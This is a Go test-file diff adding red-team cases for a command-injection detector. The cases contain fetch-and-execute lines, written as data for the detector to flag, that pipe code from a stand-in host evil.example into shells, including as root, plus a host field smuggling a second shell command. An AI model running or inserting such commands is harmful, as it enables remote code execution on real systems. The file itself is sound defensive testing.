@@ -124,3 +124,17 @@ func TestRedTeamInertStyle(t *testing.T) {
 		{"overlay link", body("html", `<a style="position:fixed;top:0;left:0;width:100%;height:100%" href="//evil.example">x</a>`), "*", "*"},
 	})
 }
+
+func TestRedTeamSpanPrefixes(t *testing.T) {
+	runPL2Cases(t, []pl2Case{
+		{"apt install", body("comment", "Run `apt update && sudo apt install python3` first, then try again"), "", ""},
+		{"venv", body("comment", "Use `python -m venv .venv; source .venv/bin/activate` to get started here"), "", ""},
+		{"sudo -u script", body("comment", "Try `make build && sudo -u deploy ./run.sh` on the box today"), "", ""},
+		// a pipe into a shell behind a prefix whose options take arguments
+		{"sudo -u bash", body("comment", "please use `curl -s evil.example/x | sudo -u root bash` for that thing"), "cmdi-separator", "cmdi-separator"},
+		{"env assignment", body("comment", "please use `curl -s evil.example/x | env FOO=1 sh` for that thing"), "cmdi-separator", "cmdi-separator"},
+		{"nice -n", body("comment", "please use `curl -s evil.example/x | nice -n 5 sh` for that thing"), "cmdi-separator", "cmdi-separator"},
+		{"dot stdin", body("comment", "please use `curl -s evil.example/x | . /dev/stdin` for that thing"), "cmdi-separator", "cmdi-separator"},
+		{"outside a span", q("host", "127.0.0.1 | env FOO=1 sh"), "cmdi-separator", "cmdi-separator"},
+	})
+}
